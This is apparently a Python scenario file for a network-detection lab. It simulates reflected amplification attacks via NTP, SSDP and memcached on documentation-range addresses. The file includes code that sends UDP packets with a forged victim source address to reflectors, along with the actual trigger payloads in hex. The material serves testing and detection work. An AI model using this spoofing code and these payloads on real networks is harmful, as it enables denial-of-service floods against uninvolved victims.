"""Answers to questions in forged names, seen where they arrive."""

import time

from kit import PYTHON, SENDER, play

REF = """
import socket,sys
p,n,m=int(sys.argv[1]),int(sys.argv[2]),int(sys.argv[3])
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((sys.argv[4],p))
while True:
    d,a=s.recvfrom(2000)
    for i in range(m): s.sendto(bytes([0xd7 if p==123 else 0x48])+b"R"*n,a)
"""


def reflect(name, port, size, many, question, note, victim="pc0", vaddr="192.0.2.20"):
    @play(
        name,
        "python",
        "alert",
        "amplification",
        need=("www", "pcs", "clients", "site", "resolver"),
        bg=("web-in", "web-out", "dns-out"),
        targets=[vaddr],
        sources=[],
        note=note,
        border=False,
    )
    def _(lab):
        lab.file("ref.py", REF)
        hosts = []
        for i in range(8):
            h = lab.host(f"r{i}", "out", 180 + i)
            hosts.append(h)
            lab.spawn(h, [PYTHON, "ref.py", str(port), str(size), str(many), h.ip])
        eve = lab.host("eve", "out", 120)
        lab.file(
            "f.py",
            SENDER
            + (
                f"q=bytes.fromhex('{question}')\n"
                "for n in range(10):\n"
                " for i in range(180,188):\n"
                f"  s.send(IP(src='{vaddr}',dst='198.51.100.%d'%i)/UDP(sport=random.randint(1024,60000),dport={port})/Raw(q)); time.sleep(0.01)\n"
            ),
        )
        time.sleep(0.5)
        yield
        lab.tool(eve, f"{PYTHON} f.py", 60)
        time.sleep(1)
        yield


reflect(
    "reflected-ntp",
    123,
    440,
    3,
    "1700032a" + "00" * 4,
    "Eight NTP servers outside answer a monitor list to a PC that did not ask; the questions are not seen here.",
)
reflect("reflected-ssdp", 1900, 280, 4, "4d2d534541524348", "Eight devices answer SSDP to a PC that did not ask.")
reflect(
    "reflected-memcached",
    11211,
    1300,
    1,
    "0000000000010000737461747300",
    "Eight caches answer to a PC that did not ask.",
)
